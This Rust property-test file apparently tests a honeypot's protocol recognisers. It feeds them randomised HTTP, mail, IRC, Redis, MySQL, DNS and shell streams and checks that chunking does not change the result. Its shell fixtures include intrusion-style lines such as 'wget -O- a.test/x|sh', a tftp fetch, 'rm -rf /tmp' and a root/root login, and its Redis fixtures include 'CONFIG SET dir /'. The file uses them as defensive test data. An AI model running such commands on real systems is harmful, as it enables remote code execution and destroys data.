//! What holds for any stream: machines survive it, cuts do not show, a decision stands.

use bytes::Bytes;
use model::{ArtifactNumber, Keep};
use proptest::prelude::*;

use crate::testing::Stage;
use crate::{
    Action, Carrier, Inbox, Input, Out, PROTOCOLS, Protocol, Recognised, dns, recognise,
    silent_peer,
};

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1_000))]

    #[test]
    fn any_bytes_are_taken_and_cuts_do_not_show(bytes: Vec<u8>, cut in 1..20_usize) {
        every_row_says_the_same(&bytes, cut);
    }

    #[test]
    fn nearly_sensible_streams_are_taken_and_cuts_do_not_show(
        bytes in stream(), cut in 1..20_usize
    ) {
        every_row_says_the_same(&bytes, cut);
    }

    #[test]
    fn a_decision_is_not_taken_back(bytes in stream()) {
        let decided = (0..=bytes.len()).find_map(|seen| decision(&bytes[..seen]));
        prop_assert!(decided.is_none() || decision(&bytes) == decided, "{:?}", decided);
    }
}

fn every_row_says_the_same(bytes: &[u8], cut: usize) {
    let rows = PROTOCOLS.iter().filter(|row| row.carrier == Carrier::Stream);
    for row in rows.chain([silent_peer()]) {
        let whole = play(row, [bytes].into_iter());
        assert_eq!(play(row, bytes.chunks(cut)), whole, "{} cut every {cut} bytes", row.name);
    }
}

/// All that a machine does about a stream; what it sends in pieces is put together.
fn play<'a>(row: &Protocol, pieces: impl Iterator<Item = &'a [u8]>) -> Vec<Action> {
    let stage = Stage::new(dns::Answers::default());
    let (mut machine, mut inbox, mut out) = ((row.start)(), Inbox::default(), Out::default());
    machine.on(Input::Open, &stage.cx(), &mut out);
    for piece in pieces {
        if !out.is_over() {
            inbox.push(piece);
            machine.on(Input::Bytes(&mut inbox), &stage.cx(), &mut out);
        }
    }
    if !out.is_over() {
        machine.on(Input::Eof, &stage.cx(), &mut out);
    }
    let mut done: Vec<Action> = Vec::new();
    for action in out.take_actions() {
        assert!(!matches!(done.last(), Some(Action::HandOver(_))), "{action:?} after the end");
        match (done.last_mut(), action) {
            (Some(Action::Send(sent)), Action::Send(more)) => {
                *sent = [&sent[..], &more[..]].concat().into();
            }
            (_, Action::Keep(Keep::Bytes(number, more))) => add_kept(number, more, &mut done),
            (_, action) => done.push(action),
        }
    }
    done
}

/// Bytes of one file are put together, whatever files they are interleaved with.
fn add_kept(number: ArtifactNumber, more: Bytes, done: &mut Vec<Action>) {
    let before = done.iter_mut().find_map(|action| match action {
        Action::Keep(Keep::Bytes(one, bytes)) if *one == number => Some(bytes),
        _ => None,
    });
    match before {
        Some(bytes) => *bytes = [&bytes[..], &more[..]].concat().into(),
        None => done.push(Action::Keep(Keep::Bytes(number, more))),
    }
}

fn decision(seen: &[u8]) -> Option<&'static str> {
    match recognise(seen, Carrier::Stream, 4_444) {
        Recognised::As(row, _) => Some(row.name),
        Recognised::Named(signature, _) => Some(signature.name),
        Recognised::NotYet => None,
        Recognised::Unknown(_) => Some("unknown"),
    }
}

/// Streams put together from pieces that nearly make sense.
fn stream() -> impl Strategy<Value = Vec<u8>> {
    let garbage = prop::collection::vec(any::<u8>(), 0..20);
    let part = prop_oneof![
        6 => request(),
        3 => dns_message(),
        6 => mail(),
        4 => chat(),
        4 => redis(),
        4 => mysql(),
        4 => shell(),
        1 => garbage,
    ];
    prop::collection::vec(part, 0..5).prop_map(|parts| parts.concat())
}

fn request() -> impl Strategy<Value = Vec<u8>> {
    let fields = prop::collection::vec(prop::sample::select(FIELDS), 0..4);
    let bodies = prop::collection::vec(prop::sample::select(BODIES), 0..5);
    let end = prop::sample::select(&["\r\n", "\n", ""][..]);
    (prop::sample::select(REQUEST_LINES), fields, end, bodies).prop_map(
        |(line, fields, end, bodies)| {
            [line, &fields.concat(), end, &bodies.concat()].concat().into()
        },
    )
}

const REQUEST_LINES: &[&str] = &[
    "GET / HTTP/1.1\r\n",
    "POST /a HTTP/1.1\n",
    "get /x http/1.0\r\n",
    "GET /old\r\n",
    "CONNECT a.test:443 HTTP/1.1\r\n",
    "\r\nPUT  /b  HTTP/1.1\r\n",
    "nonsense\r\n",
];

const FIELDS: &[&str] = &[
    "Host: a.test\r\n",
    "Content-Length: 5\r\n",
    "Content-Length: 70\n",
    "Content-Length: x\r\n",
    "Transfer-Encoding: chunked\r\n",
    "Transfer-Encoding: chunked\r\n",
    "Expect: 100-continue\r\n",
    "Connection: close\r\n",
    " folded\r\n",
    "no colon\r\n",
    "A: 0123456789012345678901234567890123456789012345678901234567890123456789\r\n",
];

const BODIES: &[&str] = &[
    "5\r\nhello\r\n",
    "05;a=b\nhello\n",
    "0\r\n\r\n",
    "0\r\nA: b\r\n\r\n",
    "hello",
    "ffffffffffffffff\r\n",
    "6\r\nhello\r\n",
];

fn mail() -> impl Strategy<Value = Vec<u8>> {
    let lines = prop::collection::vec(prop::sample::select(MAIL_LINES), 0..30);
    let ends = prop::sample::select(&["\r\n", "\n", "\r\n.\r\n"][..]);
    let start = prop::sample::select(&["", "MAIL FROM:<a@b>\r\nRCPT TO:<c>\r\nDATA\r\n"][..]);
    (start, lines, ends).prop_map(|(start, lines, end)| {
        [start.as_bytes(), lines.join("\r\n").as_bytes(), end.as_bytes()].concat()
    })
}

/// Commands, and lines of a mail.
const MAIL_LINES: &[&str] = &[
    "EHLO a",
    "LHLO a",
    "MAIL FROM:<a@b>",
    "RCPT TO:<c@d>",
    "DATA",
    "BDAT 20",
    "BDAT 3 LAST",
    "RSET",
    "AUTH LOGIN",
    "AUTH PLAIN AGEAYg==",
    "AUTH CRAM-MD5",
    "STARTTLS",
    "QUIT",
    "USER a",
    "PASS b",
    "APOP a b",
    "CAPA",
    "AUTH",
    "LIST",
    "UIDL 1",
    "RETR 1",
    "TOP 2 1",
    "DELE 1",
    "STLS",
    ".",
    "..",
    "",
    "\r",
    "a\nb",
    "Content-Type: multipart/mixed; boundary=b",
    "Content-Type: multipart/mixed; boundary=\"b\\c",
    "Content-Type: application/x; name*0*=utf-8''a%FF; name*1=b; name*=",
    "Content-Disposition: attachment; filename==?utf-8?b?4pi?=",
    "Content-Type: text/plain; charset=utf-7",
    "Content-Transfer-Encoding: base64",
    "Content-Transfer-Encoding: quoted-printable",
    "From: \"a (b\\\" <c@d>, e: f@g (h (i), <j;",
    "Subject: =?utf-8?q?a=",
    " =?x?b?",
    "--b",
    "--b--",
    "--b\\c",
    "AAECAwQ=",
    "=C3=BC=",
    "01234567890123456789012345678901234567890123456789012345678901234567890123456789",
];

fn chat() -> impl Strategy<Value = Vec<u8>> {
    let lines = prop::collection::vec(prop::sample::select(CHAT_LINES), 0..20);
    let start = prop::sample::select(&["", "NICK a\r\nUSER a 0 * :b\r\n"][..]);
    (start, lines).prop_map(|(start, lines)| [start, &lines.concat()].concat().into())
}

/// Commands, and what is nearly one.
const CHAT_LINES: &[&str] = &[
    "CAP LS 302\r\n",
    "CAP REQ :sasl x\n",
    "CAP END\r\n",
    "AUTHENTICATE PLAIN\r\n",
    "AUTHENTICATE AGEAYg==\r\n",
    "PASS x\r\n",
    "NICK 1a!\r\n",
    "NICK b\r\n",
    "USER a\r\n",
    "JOIN #a,#b,c,0 k\r\n",
    "JOIN 0\n",
    "PART #a :b\r\n",
    "PRIVMSG #a :\u{1}VERSION\u{1}\r\n",
    "PRIVMSG b :\u{1}PING \u{fc}\u{1}\r\n",
    "NOTICE a :b\r\r\n",
    "MODE #a b\r\n",
    "MODE a +i\r\n",
    "WHO #a\r\n",
    "WHOIS a,b c\r\n",
    "LIST\r\n",
    "TOPIC #a :\r\n",
    ":@ \r\n",
    "\0\r\n",
    "QUIT :bye\r\n",
    "PING 0123456789012345678901234567890123456789012345678901234567890123456789\r\n",
];

fn redis() -> impl Strategy<Value = Vec<u8>> {
    prop::collection::vec(prop::sample::select(REDIS_COMMANDS), 0..20)
        .prop_map(|commands| commands.concat().into())
}

fn mysql() -> impl Strategy<Value = Vec<u8>> {
    let login = prop::sample::select(vec![&b""[..], MYSQL_LOGIN]);
    let queries = prop::collection::vec(statement(), 0..10);
    (login, queries).prop_map(|(login, queries)| {
        let packet =
            |text: &String| [&[text.len() as u8 + 1, 0, 0, 0, 3], text.as_bytes()].concat();
        [login.to_vec(), queries.iter().flat_map(packet).collect()].concat()
    })
}

const MYSQL_LOGIN: &[u8] =
    b"\x24\0\0\x01\x05\xa2\0\0\0\0\0\x01\x2d\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0a\0\x01b";

/// Words of SQL in any order, with something at their beginning that might be a statement.
fn statement() -> impl Strategy<Value = String> {
    let words = prop::collection::vec(prop::sample::select(SQL_WORDS), 0..12);
    (prop::sample::select(SQL_VERBS), words).prop_map(|(verb, words)| {
        let text = format!("{verb} {}", words.join(" "));
        text.chars().take(120).filter(char::is_ascii).collect()
    })
}

const SQL_VERBS: &[&str] = &[
    "SELECT", "SHOW", "USE", "CREATE", "DROP", "INSERT", "DESC", "SET", "COPY", "UPDATE", "(", "",
];

const SQL_WORDS: &[&str] = &[
    "TABLE",
    "DATABASE",
    "FUNCTION",
    "IF NOT EXISTS",
    "FROM",
    "INTO",
    "VALUES",
    "LIKE",
    "AS",
    "LIMIT",
    "tables",
    "information_schema",
    "orders",
    "t",
    "version()",
    "concat",
    "count(*)",
    "NULL",
    "@@version",
    "@x",
    "'a''b'",
    "'%",
    "`c`",
    "\"d\"",
    "[e]",
    "1",
    "-2",
    "0x4d",
    "*",
    ",",
    ".",
    "(",
    ")",
    ";",
    "+",
    "::",
    "?",
    "$1",
    "/*!40101",
    "*/",
    "-- ",
    "STDIN",
    "DATABASES",
    "VARIABLES",
    "COLUMNS FROM",
    "TABLES",
];

/// Commands in both forms, and what is nearly one.
const REDIS_COMMANDS: &[&str] = &[
    "*1\r\n$4\r\nPING\r\n",
    "*3\r\n$3\r\nSET\r\n$1\r\na\r\n$2\r\n10\r\n",
    "*3\r\n$3\r\nSET\r\n$1\r\na\r\n$70\r\n0123456789012345678901234567890123456789012345678901234567890123456789\r\n",
    "*2\n$4\nINCR\n$1\na\r\n",
    "*2\r\n$3\r\nGET\r\n$1\r\na\r\n",
    "*2\r\n$3\r\nGET\r\n",
    "*0\r\n",
    "*-1\r\n",
    "*x\r\n",
    "$1\r\n",
    "HELLO 3 AUTH a b\r\n",
    "AUTH a\n",
    "LPUSH l a b\r\n",
    "LRANGE l -9 9\r\n",
    "HSET h a b\r\n",
    "SADD s \"\\x00\" 'b'\r\n",
    "KEYS *[a-\r\n",
    "MULTI\r\n",
    "EXEC\r\n",
    "INFO\r\n",
    "BLPOP l 1\r\n",
    "CONFIG SET dir /\r\n",
    "EVAL \"return KEYS[9]\" 1 a\r\n",
    "SET a \"\r\n",
];

fn shell() -> impl Strategy<Value = Vec<u8>> {
    let lines = prop::collection::vec(prop::sample::select(SHELL_LINES), 0..20);
    let start = prop::sample::select(&["", "root\r\nroot\r\n"][..]);
    (start, lines).prop_map(|(start, lines)| [start, &lines.concat()].concat().into_bytes())
}

/// Lines of a shell, and what is nearly one.
const SHELL_LINES: &[&str] = &[
    "enable\r\n",
    "/bin/busybox X\r\n",
    "cd /tmp || cd /x; > .f\r\0",
    "echo -ne '\\x7f\\0377' >> .f\n",
    "printf %s%d%b\\n a 1 '\\t' > g; cat .f g | wc\r\n",
    "for i in * ?; do echo $i; done\r\n",
    "while :; do a=$a$a$i; done\r\n",
    "if [ -s .f ]; then\r\n",
    "fi\r\n",
    "cat <<E > h\r\n",
    "E\r\n",
    "cat > i\r\n\x04",
    "passwd\r\nx\r\nx\r\n",
    "((`echo $(b`)\r\n",
    "'\r\n\"\r\n'\r\n",
    "sh\r\n\x03sh g; . g; eval sh -c 'sh g'\r\n",
    "dd if=/dev/urandom of=j bs=99 count=3; mv j k; cp k /bin/l; rm -rf /tmp\r\n",
    "wget -O- a.test/x|sh;tftp -g -r y b;ln -s . m; cd m/m; ls -la / *\r\n",
    "ps|awk '{print $1 \"-\" $NF}'|sort -rn|uniq -c|tr a-z A-Z|cut -d' ' -f2|grep -v ^$\r\n",
    "exit\r\n",
];

fn dns_message() -> impl Strategy<Value = Vec<u8>> {
    let message = prop::sample::select(DNS_MESSAGES);
    message.prop_map(|message| [&[0, message.len() as u8], message].concat())
}

const DNS_MESSAGES: &[&[u8]] = &[
    b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\0\0\x01\0\x01",
    b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x01a\0\0\x0f\0\x01",
    b"\x12\x34\x01\0\0\x02\0\0\0\0\0\0\x01a\0\0\x1c\0\x01\xc0\x0c\0\x01\0\x01",
    b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\xc0\x0c\0\x01\0\x01",
    b"xx",
    b"",
];
